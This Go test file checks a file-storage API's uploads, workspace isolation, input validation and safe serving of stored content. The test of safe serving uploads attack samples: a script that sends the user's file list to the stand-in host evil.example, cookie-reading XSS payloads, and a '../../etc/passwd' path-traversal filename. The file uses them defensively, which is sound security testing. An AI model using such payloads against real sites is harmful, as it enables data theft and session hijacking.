package api_test

import (
	"bytes"
	"encoding/json"
	"io"
	"mime/multipart"
	"net/http"
	"strings"
	"testing"

	"github.com/agenthost/agenthost/host/files/filemeta"
)

type call struct {
	method, path, token, contentType string
	body                             io.Reader
}

func do(t testing.TB, base string, c call) (int, string, []byte) {
	t.Helper()
	req, err := http.NewRequest(c.method, base+c.path, c.body)
	if err != nil {
		t.Fatal(err)
	}
	if c.token != "" {
		req.Header.Set("Authorization", "Bearer "+c.token)
	}
	if c.contentType != "" {
		req.Header.Set("Content-Type", c.contentType)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, resp.Header.Get("Content-Type"), body
}

func multipartBody(t *testing.T, name string, content []byte, fields map[string]string) (io.Reader, string) {
	var buf bytes.Buffer
	w := multipart.NewWriter(&buf)
	for k, v := range fields {
		w.WriteField(k, v)
	}
	if name != "" {
		part, _ := w.CreateFormFile("file", name)
		part.Write(content)
	}
	w.Close()
	return &buf, w.FormDataContentType()
}

func TestFilesAPI(t *testing.T) {
	ts := server(t)
	base, alice, carol, wsA := ts.base, ts.alice, ts.carol, ts.wsA
	body, ct := multipartBody(t, "notes.md", []byte("# Notes\nhello"), map[string]string{"tags": "draft, q4", "description": "d"})
	status, _, raw := do(t, base, call{"POST", "/workspaces/" + wsA + "/files", alice, ct, body})
	if status != 201 {
		t.Fatalf("upload: %d %s", status, raw)
	}
	var f struct {
		filemeta.Item
		Existing bool `json:"existing"`
	}
	if err := json.Unmarshal(raw, &f); err != nil || f.Name != "notes.md" || len(f.Tags) != 2 || f.Existing {
		t.Fatalf("upload result: %s %v", raw, err)
	}
	body, ct = multipartBody(t, "notes.md", []byte("# Notes\nhello"), nil)
	if status, _, raw := do(t, base, call{"POST", "/workspaces/" + wsA + "/files", alice, ct, body}); status != 200 || !strings.Contains(string(raw), `"existing":true`) {
		t.Fatalf("duplicate upload: %d %s", status, raw)
	}
	if status, _, raw := do(t, base, call{"GET", "/files/" + f.ID + "/content", alice, "", nil}); status != 200 || string(raw) != "# Notes\nhello" {
		t.Fatalf("content: %d %q", status, raw)
	}
	if status, _, raw := do(t, base, call{"GET", "/files?tag=q4&workspace=" + wsA, alice, "", nil}); status != 200 || !strings.Contains(string(raw), f.ID) {
		t.Fatalf("list: %d %s", status, raw)
	}
	status, _, raw = do(t, base, call{"PATCH", "/files/" + f.ID, alice, "application/json", strings.NewReader(`{"name":"renamed.md","addTags":["final"]}`)})
	if status != 200 || !strings.Contains(string(raw), `"renamed.md"`) {
		t.Fatalf("patch: %d %s", status, raw)
	}
	status, _, raw = do(t, base, call{"POST", "/workspaces/" + wsA + "/folders", alice, "application/json", strings.NewReader(`{"name":"Finance","autoRule":"tag:financial"}`)})
	if status != 201 {
		t.Fatalf("folder: %d %s", status, raw)
	}

	big := bytes.Repeat([]byte("x"), 3<<20)
	bigBody, bigCT := multipartBody(t, "big.bin", big, nil)
	for _, c := range []struct {
		name   string
		call   call
		status int
		detail string
	}{
		{"no token", call{"GET", "/files", "", "", nil}, 401, "Bearer"},
		{"bad token", call{"GET", "/files", "ahk_nope", "", nil}, 401, "malformed"},
		{"other workspace's file", call{"GET", "/files/" + f.ID, carol, "", nil}, 404, "not found"},
		{"other workspace's content", call{"GET", "/files/" + f.ID + "/content", carol, "", nil}, 404, "not found"},
		{"upload into another workspace", call{"POST", "/workspaces/" + wsA + "/files", carol, "", nil}, 404, "workspace"},
		{"unknown file", call{"GET", "/files/nope", alice, "", nil}, 404, "nope"},
		{"path trick in name", call{"POST", "/workspaces/" + wsA + "/files", alice, "", nil}, 400, "path separator"},
		{"malformed JSON", call{"PATCH", "/files/" + f.ID, alice, "application/json", strings.NewReader(`{"name":`)}, 400, "malformed JSON"},
		{"unknown field", call{"PATCH", "/files/" + f.ID, alice, "application/json", strings.NewReader(`{"nam":"x"}`)}, 400, "unknown field"},
		{"bad limit", call{"GET", "/files?limit=abc", alice, "", nil}, 400, "limit"},
		{"bad status", call{"GET", "/files?status=gone", alice, "", nil}, 400, "status"},
		{"bad auto-rule", call{"POST", "/workspaces/" + wsA + "/folders", alice, "application/json", strings.NewReader(`{"name":"x","autoRule":"weird"}`)}, 400, "auto-rule"},
		{"duplicate folder", call{"POST", "/workspaces/" + wsA + "/folders", alice, "application/json", strings.NewReader(`{"name":"Finance"}`)}, 409, "exists"},
		{"search without text", call{"GET", "/workspaces/" + wsA + "/search", alice, "", nil}, 400, "required"},
		{"search with only punctuation", call{"GET", "/workspaces/" + wsA + "/search?q=%3F%21", alice, "", nil}, 400, "no words"},
		{"search another workspace", call{"GET", "/workspaces/" + wsA + "/search?q=notes&layer=instance", carol, "", nil}, 404, "workspace"}, // issue 11 item 15: like every workspace route
		// Issue 11 item 5: a file whose indexing job waits is pending, not
		// missing.
		{"index of a file not indexed yet", call{"GET", "/files/" + f.ID + "/index", alice, "", nil}, 200, `"note":"queued"`},
		{"index of another workspace's file", call{"GET", "/files/" + f.ID + "/index", carol, "", nil}, 404, "not found"},
		{"entries of a file that is no container", call{"GET", "/files/" + f.ID + "/entries", alice, "", nil}, 200, "[]"},
		{"entries of another workspace's file", call{"GET", "/files/" + f.ID + "/entries", carol, "", nil}, 404, "not found"},
		// Issue 28 item 4: the preview's objects are the file's, refused
		// like its content; a file still indexing says so, not "empty".
		{"objects of another workspace's file", call{"GET", "/files/" + f.ID + "/objects", carol, "", nil}, 404, "not found"},
		{"objects of a file not indexed yet", call{"GET", "/files/" + f.ID + "/objects", alice, "", nil}, 409, "still being indexed"},
		{"objects with a limit past the cap", call{"GET", "/files/" + f.ID + "/objects?limit=201", alice, "", nil}, 400, "limit 201"},
		{"objects of a negative page", call{"GET", "/files/" + f.ID + "/objects?page=-1", alice, "", nil}, 400, "page -1"},
		// A page's copy is the file's too; only a PDF has pages to copy
		// (copies themselves: TestPagePDFRoute in cmd/agenthost).
		{"page of another workspace's file", call{"GET", "/files/" + f.ID + "/pages/1/pdf", carol, "", nil}, 404, "not found"},
		{"page of a file that is no PDF", call{"GET", "/files/" + f.ID + "/pages/1/pdf", alice, "", nil}, 422, "not a PDF"},
		{"page zero", call{"GET", "/files/" + f.ID + "/pages/0/pdf", alice, "", nil}, 400, "a number from 1"},
		{"page not a number", call{"GET", "/files/" + f.ID + "/pages/x/pdf", alice, "", nil}, 400, "a number from 1"},
		// Issue 26 item 5: a password is taken only for an encrypted file
		// the caller can read.
		{"password for a file that is not encrypted", call{"POST", "/files/" + f.ID + "/password", alice, "application/json", strings.NewReader(`{"password":"x"}`)}, 409, "does not wait for a password"},
		{"password for another workspace's file", call{"POST", "/files/" + f.ID + "/password", carol, "application/json", strings.NewReader(`{"password":"x"}`)}, 404, "not found"},
		{"empty password", call{"POST", "/files/" + f.ID + "/password", alice, "application/json", strings.NewReader(`{"password":""}`)}, 400, "password of 1 to"},
		{"password body not JSON", call{"POST", "/files/" + f.ID + "/password", alice, "application/json", strings.NewReader(`{"password":`)}, 400, ""},
		{"oversized upload", call{"POST", "/workspaces/" + wsA + "/files", alice, bigCT, bigBody}, 413, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			if c.call.body == nil && c.call.method == "POST" {
				name := "x.txt"
				if c.name == "path trick in name" {
					name = "../../etc/passwd"
				}
				c.call.body, c.call.contentType = multipartBody(t, name, []byte("x"), nil)
			}
			status, ctype, raw := do(t, base, c.call)
			if c.status == 200 {
				ctype = "application/problem+json" // a success row: only status and body matter
			}
			if status != c.status || ctype != "application/problem+json" || !strings.Contains(string(raw), c.detail) {
				t.Fatalf("%d %s %s, want %d with %q", status, ctype, raw, c.status, c.detail)
			}
		})
	}
	// Refused requests changed nothing: one file, still named renamed.md.
	_, _, raw = do(t, base, call{"GET", "/files?workspace=" + wsA, alice, "", nil})
	var page filemeta.Page
	if err := json.Unmarshal(raw, &page); err != nil || len(page.Items) != 1 || page.Items[0].Name != "renamed.md" {
		t.Fatalf("after refused requests: %s", raw)
	}
}

// TestStoredContentRunsNothing (issue 24 item 6): a file's bytes come from
// the UI's origin, so an uploaded page, image or script must not run there
// with the viewer's session when opened. Every response carrying stored bytes
// keeps its recorded type unsniffed, forbids scripts and loads, and is a
// download.
func TestStoredContentRunsNothing(t *testing.T) {
	ts := server(t)
	for _, c := range []struct{ name, content string }{
		{"steal.js", "fetch('/api/v1/files').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))"},
		{"page.html", "<script>alert(document.cookie)</script>"},
		{"drawing.svg", `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`},
		{"notes.txt", "<html><script>alert(1)</script></html>"},
	} {
		t.Run(c.name, func(t *testing.T) {
			body, ct := multipartBody(t, c.name, []byte(c.content), nil)
			status, _, raw := do(t, ts.base, call{"POST", "/workspaces/" + ts.wsA + "/files", ts.alice, ct, body})
			var f filemeta.Item
			if status != 201 || json.Unmarshal(raw, &f) != nil {
				t.Fatalf("upload: %d %s", status, raw)
			}
			for _, path := range []string{"/files/" + f.ID + "/content", "/files/" + f.ID + "/versions/1/content"} {
				req, _ := http.NewRequest("GET", ts.base+path, nil)
				req.Header.Set("Authorization", "Bearer "+ts.alice)
				resp, err := http.DefaultClient.Do(req)
				if err != nil {
					t.Fatal(err)
				}
				got, _ := io.ReadAll(resp.Body)
				resp.Body.Close()
				h := resp.Header
				if resp.StatusCode != 200 || string(got) != c.content {
					t.Fatalf("GET %s: %d %q", path, resp.StatusCode, got)
				}
				csp := h.Get("Content-Security-Policy")
				for _, want := range []string{"default-src 'none'", "sandbox"} {
					if !strings.Contains(csp, want) {
						t.Errorf("GET %s: Content-Security-Policy %q lacks %q", path, csp, want)
					}
				}
				if h.Get("X-Content-Type-Options") != "nosniff" {
					t.Errorf("GET %s: X-Content-Type-Options %q", path, h.Get("X-Content-Type-Options"))
				}
				if d := h.Get("Content-Disposition"); !strings.HasPrefix(d, "attachment") {
					t.Errorf("GET %s: Content-Disposition %q, want a download", path, d)
				}
				if h.Get("Content-Type") != f.MIMEType {
					t.Errorf("GET %s: Content-Type %q, want the recorded %q", path, h.Get("Content-Type"), f.MIMEType)
				}
			}
		})
	}
}

// TestFileUploaderName: a file's details name who uploaded it (the
// person's name, else their e-mail address) for every member who may read
// it; the listing leaves it out, and another workspace's member still
// gets a not-found.
func TestFileUploaderName(t *testing.T) {
	ts := server(t)
	body, ct := multipartBody(t, "report.txt", []byte("quarterly"), nil)
	status, _, raw := do(t, ts.base, call{"POST", "/workspaces/" + ts.wsA + "/files", ts.alice, ct, body})
	if status != 201 {
		t.Fatalf("upload: %d %s", status, raw)
	}
	var up filemeta.Item
	if err := json.Unmarshal(raw, &up); err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		name, token string
		status      int
		uploader    string
	}{
		{"the uploader", ts.alice, 200, "alice@acme"},
		{"another member of the workspace", ts.bob, 200, "alice@acme"},
		{"a member of another workspace", ts.carol, 404, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			status, _, raw := do(t, ts.base, call{"GET", "/files/" + up.ID, c.token, "", nil})
			if status != c.status {
				t.Fatalf("GET: %d %s", status, raw)
			}
			if status != 200 {
				return
			}
			var got struct {
				ID            string `json:"id"`
				CreatedBy     string `json:"createdBy"`
				CreatedByName string `json:"createdByName"`
			}
			if err := json.Unmarshal(raw, &got); err != nil {
				t.Fatal(err)
			}
			if got.ID != up.ID || got.CreatedBy == "" || got.CreatedByName != c.uploader {
				t.Fatalf("got %s", raw)
			}
		})
	}
	if status, _, raw := do(t, ts.base, call{"GET", "/files?workspace=" + ts.wsA, ts.alice, "", nil}); status != 200 || strings.Contains(string(raw), "createdByName") {
		t.Fatalf("list: %d %s", status, raw)
	}
}
